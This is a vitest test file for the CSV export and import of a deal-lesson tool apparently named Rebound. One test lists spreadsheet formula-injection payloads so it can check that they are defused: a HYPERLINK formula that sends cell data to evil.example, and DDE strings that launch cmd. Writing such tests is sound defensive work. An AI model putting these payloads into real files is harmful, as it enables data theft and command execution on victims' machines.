import Papa from 'papaparse';
import { resolveTemplate } from '../lessons/template';
import { describe, expect, it } from 'vitest';
import { LessonSchema, type Lesson } from '../lessons/schema';
import { csvWriter, fromCsv, toCsv, UTF8_BOM } from './csv';

const BUILT_IN = resolveTemplate(undefined);

let counter = 0;
function lesson(overrides: Partial<Lesson> = {}): Lesson {
  counter++;
  return {
    id: `3f0e3c5e-8f7a-4d6b-9d1e-${String(counter).padStart(12, '0')}`,
    createdAt: '2026-01-02T03:04:05.000Z',
    updatedAt: '2026-01-02T03:04:05.000Z',
    schemaVersion: 1,
    crm: 'hubspot',
    dealId: '42',
    dealName: 'Acme renewal',
    dealUrl: 'https://app.hubspot.com/contacts/1/record/0-3/42?tab=notes&x=1',
    amount: 48000.5,
    currency: 'USD',
    company: 'Acme Corp',
    stageBefore: 'Contract sent',
    outcome: 'competitor',
    reason: 'competitor.price-value',
    answers: { whatHappened: 'They went with Globex.' },
    ...overrides,
  };
}

/** The CSV as a spreadsheet sees it: rows of cells by column name. */
const rowsOf = (csv: string) =>
  Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;

describe('CSV export', () => {
  it('reads back what it wrote, including awkward text', () => {
    const lessons = [
      lesson({
        dealName: 'Acme, Inc. "Platform" renewal',
        company: 'Société Générale — 失注 🚀',
        answers: {
          whatHappened: 'Line one\nLine two, with a comma\r\nand "quotes"',
          nextTime: '  keeps its spaces  ',
        },
      }),
      lesson({
        crm: 'manual',
        dealId: undefined,
        dealUrl: undefined,
        amount: undefined,
        currency: undefined,
        company: undefined,
        stageBefore: undefined,
        reason: undefined,
        outcome: 'unknown',
        answers: {},
      }),
      lesson({ amount: 0 }),
    ];
    expect(fromCsv(toCsv(lessons, BUILT_IN))).toEqual({ ok: true, lessons, invalid: [] });
  });

  it('reads back a lesson with every field of the new reflection, numbers as numbers', () => {
    const full = lesson({
      amount: 1250,
      secondaryReason: 'other',
      confidence: 'buyer-told-me',
      feeling: 4,
      crmLostReason: 'Lost to competitor: "price", mostly',
      mode: 'deep',
      templateVersion: 2,
      answers: {
        planCue: 'procurement running the RFP',
        planAction: 'ask for the economic buyer in week one',
        attribution: 'situation',
        reasonOther: 'Acquired by a rival',
        luck: 'Timing.',
      },
    });
    const csv = toCsv([full], BUILT_IN);
    const row = rowsOf(csv)[0]!;
    expect(row).toMatchObject({
      secondaryReason: 'other',
      confidence: 'buyer-told-me',
      feeling: '4',
      crmLostReason: 'Lost to competitor: "price", mostly',
      mode: 'deep',
      templateVersion: '2',
      'answers.planCue': 'procurement running the RFP',
      'answers.attribution': 'situation',
    });
    const back = fromCsv(csv);
    expect(back).toEqual({ ok: true, lessons: [full], invalid: [] });
    const read = back.ok ? back.lessons[0]! : undefined;
    expect(typeof read?.feeling).toBe('number');
    expect(typeof read?.templateVersion).toBe('number');
    expect(typeof read?.amount).toBe('number');
  });

  it('leaves the new columns empty for an older lesson and reads them back as absent', () => {
    const old = lesson();
    const row = rowsOf(toCsv([old], BUILT_IN))[0]!;
    for (const column of ['secondaryReason', 'confidence', 'feeling', 'crmLostReason', 'mode']) {
      expect(row[column]).toBe('');
    }
    const back = fromCsv(toCsv([old], BUILT_IN));
    expect(back.ok && back.lessons[0]!.feeling).toBeUndefined();
  });

  it('refuses a feeling outside 1 to 5', () => {
    const csv = toCsv([lesson({ feeling: 4 })], BUILT_IN);
    const header = csv.split('\r\n')[0]!.split(',');
    const cells = Papa.parse<string[]>(csv).data[1]!;
    cells[header.indexOf('feeling')] = '9';
    const read = fromCsv(Papa.unparse({ fields: header, data: [cells] }));
    expect(read).toEqual({
      ok: true,
      lessons: [],
      invalid: [{ list: 'lessons', number: 2, reason: 'CSV row 2: Feeling is not valid.' }],
    });
  });

  it('has one row per lesson with readable labels beside the ids', () => {
    const rows = rowsOf(
      toCsv([lesson(), lesson({ outcome: 'no-decision', reason: undefined })], BUILT_IN),
    );
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      outcome: 'competitor',
      outcomeLabel: 'Lost to a competitor',
      reason: 'competitor.price-value',
      reasonLabel: 'Price / value',
      'answers.whatHappened': 'They went with Globex.',
    });
    expect(rows[1]).toMatchObject({ outcomeLabel: 'No decision / stalled', reasonLabel: '' });
  });

  it('shows the free text of an "Other" reason as its label', () => {
    const rows = rowsOf(
      toCsv(
        [lesson({ reason: 'other', answers: { reasonOther: 'Acquired by a rival' } })],
        BUILT_IN,
      ),
    );
    expect(rows[0]).toMatchObject({
      reasonLabel: 'Acquired by a rival',
      'answers.reasonOther': 'Acquired by a rival',
    });
  });

  it('gives answers to questions no longer asked their own column', () => {
    const old = lesson({ answers: { whatHappened: 'x', legacyQuestion: 'Old answer' } });
    const csv = toCsv([old, lesson()], BUILT_IN);
    const header = csv.split(/\r?\n/)[0]!.split(',');
    expect(header).toContain('answers.legacyQuestion');
    expect(rowsOf(csv).map((r) => r['answers.legacyQuestion'])).toEqual(['Old answer', '']);
    const back = fromCsv(csv);
    expect(back.ok && back.lessons[0]!.answers).toEqual({
      whatHappened: 'x',
      legacyQuestion: 'Old answer',
    });
  });

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    '+1+2',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '=1+1\nsecond line',
  ])('stops a spreadsheet running %j as a formula, and reads it back as typed', (text) => {
    const lessons = [lesson({ dealName: text, company: text, answers: { whatHappened: text } })];
    const csv = toCsv(lessons, BUILT_IN);
    const row = rowsOf(csv)[0]!;
    for (const column of ['dealName', 'company', 'answers.whatHappened']) {
      expect(row[column]).toBe(`'${text}`);
    }
    // As stored: the deal name is trimmed like any typed one.
    expect(fromCsv(csv)).toEqual({
      ok: true,
      lessons: lessons.map((l) => LessonSchema.parse(l)),
      invalid: [],
    });
  });

  it('leaves text that merely contains = + - @ alone', () => {
    const text = 'Price: 5-10% off, a+b=c, sales@acme.com';
    const row = rowsOf(toCsv([lesson({ dealName: text })], BUILT_IN))[0]!;
    expect(row.dealName).toBe(text);
  });

  it('names the row of a lesson that does not validate, and keeps the others', () => {
    const csv = toCsv(
      [lesson(), lesson({ dealName: 'Second' }), lesson({ outcome: 'unknown' })],
      BUILT_IN,
    );
    expect(fromCsv(csv.replace('Second', ''))).toEqual(
      expect.objectContaining({
        invalid: [{ list: 'lessons', number: 3, reason: 'CSV row 3: Deal name is missing.' }],
      }),
    );
    expect(fromCsv(csv.replace(',unknown,', ',won,'))).toEqual(
      expect.objectContaining({
        invalid: [
          {
            list: 'lessons',
            number: 4,
            reason: 'CSV row 4: Outcome “won” is not one Rebound knows.',
          },
        ],
      }),
    );
  });

  it('names the row where the CSV itself is malformed, and keeps the others', () => {
    const lines = toCsv([lesson(), lesson()], BUILT_IN).split('\r\n');
    lines[2] = 'just,three,cells';
    const read = fromCsv(lines.join('\r\n'));
    // The other rows still import; the broken one is named by its row in the sheet.
    expect(read.ok && read.lessons).toHaveLength(1);
    expect(read.ok && read.invalid.map((i) => i.reason)).toEqual([
      expect.stringMatching(/^CSV row 3: /),
    ]);
  });

  it('puts the tags in one column, split at "; ", and reads them back exactly', () => {
    const tagged = lesson({ tags: ['enterprise', 'Q4; push', 'back\\slash'] });
    const csv = toCsv([tagged], BUILT_IN);
    expect(rowsOf(csv)[0]!.tags).toBe('enterprise; Q4\\; push; back\\\\slash');
    expect(fromCsv(csv)).toEqual({ ok: true, lessons: [tagged], invalid: [] });
  });

  it('reads a file with a byte order mark (written for Excel)', () => {
    const lessons = [lesson()];
    expect(fromCsv(UTF8_BOM + toCsv(lessons, BUILT_IN))).toEqual({
      ok: true,
      lessons,
      invalid: [],
    });
  });

  it('adds a column for a retired question found on a later page, and reads the shorter rows', () => {
    const writer = csvWriter(BUILT_IN);
    const first = lesson();
    const later = lesson({ answers: { legacyQuestion: 'Old answer' } });
    const rows = writer.rows([first]) + writer.rows([later]);
    const csv = writer.header() + rows;
    expect(csv.split('\r\n')[0]!.endsWith(',answers.legacyQuestion')).toBe(true);
    expect(fromCsv(csv)).toEqual({ ok: true, lessons: [first, later], invalid: [] });
  });

  it('refuses a CSV that is not a Rebound export', () => {
    expect(fromCsv('name,amount\r\nAcme,5\r\n')).toEqual({
      ok: false,
      error: 'This is not a Rebound export.',
    });
  });

  it('refuses an amount that is not a number', () => {
    const csv = toCsv([lesson({ amount: 123.45 })], BUILT_IN).replace(',123.45,', ',a lot,');
    const read = fromCsv(csv);
    expect(read).toEqual({
      ok: true,
      lessons: [],
      invalid: [{ list: 'lessons', number: 2, reason: 'CSV row 2: Amount is not valid.' }],
    });
  });
});
